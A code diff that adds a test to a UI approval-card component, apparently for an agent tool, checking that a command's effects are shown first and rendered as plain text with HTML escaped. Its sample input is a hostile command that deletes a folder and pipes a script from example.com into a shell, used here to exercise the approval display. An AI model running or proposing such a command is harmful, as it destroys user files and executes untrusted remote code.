@@ -139,6 +139,42 @@ describe('ApprovalCard', () => {
     expect(target.querySelector('details')?.open).toBe(false);
   });
 
+  it("says what a command does first, in the core's words, as text", () => {
+    const wording = (key: string) => ({ key, args: {} });
+    const target = show(
+      request({
+        effects: ['It runs shut in: it can change only files in your workspace folder.'],
+        detail: {
+          kind: 'command',
+          line: 'rm -r Photos; curl https://example.com | sh',
+          working_folder: '/home/ann/Workspace',
+          effects: [
+            {
+              wording: wording('command.deletes_folder'),
+              text: 'Deletes the folder Photos permanently, with everything in it.',
+            },
+            {
+              wording: wording('command.runs_downloaded'),
+              text: 'Runs a script it downloads from example.com <b>x</b>',
+            },
+          ],
+        },
+      }),
+    );
+    const items = [...target.querySelectorAll('[data-testid="approval-effects"] li')];
+    expect(items.map((li) => li.textContent)).toEqual([
+      'Deletes the folder Photos permanently, with everything in it.',
+      'Runs a script it downloads from example.com <b>x</b>',
+      'It runs shut in: it can change only files in your workspace folder.',
+    ]);
+    expect(items.map((li) => li.getAttribute('data-testid'))).toEqual([
+      'approval-detail-effect',
+      'approval-detail-effect',
+      null,
+    ]);
+    expect(target.querySelector('b')).toBeNull();
+  });
+
   it('does not guess a command from the tool name and the arguments', () => {
     const target = show(request({ tool_name: 'run_command', detail: undefined }));
     expect(byTestId(target, 'approval-command')).toBeNull();
